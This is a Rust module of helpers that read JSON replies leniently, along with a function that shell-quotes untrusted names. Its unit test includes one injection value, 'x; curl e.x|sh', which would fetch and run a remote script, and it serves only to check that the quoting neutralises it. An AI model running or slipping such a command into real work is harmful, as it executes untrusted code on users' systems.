//! Reading JSON replies leniently: what is absent reads as empty. It never fails.

use serde_json::Value;

/// `yes` or `no`.
pub fn yes_no(value: bool) -> String {
    if value { "yes" } else { "no" }.to_owned()
}

/// `1 flow`, `2 flows`.
pub fn counted(number: impl Into<u64>, one: &str) -> String {
    match number.into() {
        1 => format!("1 {one}"),
        number => format!("{number} {one}s"),
    }
}

/// A name as a word of a shell: others give names, and commands that are shown get pasted.
pub fn in_shell(name: &str) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"._:/@%+=-".contains(&byte);
    match !name.is_empty() && !name.starts_with('-') && name.bytes().all(plain) {
        true => name.to_owned(),
        false => format!("'{}'", name.replace('\'', r"'\''")),
    }
}

/// A field of a JSON object as text; numbers and booleans are printed, absence is empty.
pub fn text(value: &Value, key: &str) -> String {
    match value.get(key) {
        None | Some(Value::Null) => String::new(),
        Some(Value::String(text)) => text.clone(),
        Some(other) => other.to_string(),
    }
}

/// A field that is a list of texts.
pub fn texts(value: &Value, key: &str) -> Vec<String> {
    let Some(items) = value.get(key).and_then(Value::as_array) else {
        return Vec::new();
    };
    items
        .iter()
        .map(|item| match item {
            Value::String(text) => text.clone(),
            other => other.to_string(),
        })
        .collect()
}

/// A field that is a list.
pub fn list<'a>(value: &'a Value, key: &str) -> &'a [Value] {
    value
        .get(key)
        .and_then(Value::as_array)
        .map_or(&[], Vec::as_slice)
}

/// A field that holds JSON as text, or the JSON itself.
pub fn embedded(value: &Value, key: &str) -> Value {
    match value.get(key) {
        Some(Value::String(text)) => serde_json::from_slice(text.as_bytes()).unwrap_or(Value::Null),
        Some(other) => other.clone(),
        None => Value::Null,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_of_others_are_one_word_of_a_shell() {
        for (name, word) in [
            ("urn:doc:1", "urn:doc:1"),
            ("https://e.x/a?b=c&d", "'https://e.x/a?b=c&d'"),
            ("x; curl e.x|sh", "'x; curl e.x|sh'"),
            ("it's", r"'it'\''s'"),
            ("-x", "'-x'"),
            ("", "''"),
        ] {
            assert_eq!(in_shell(name), word);
        }
    }
}
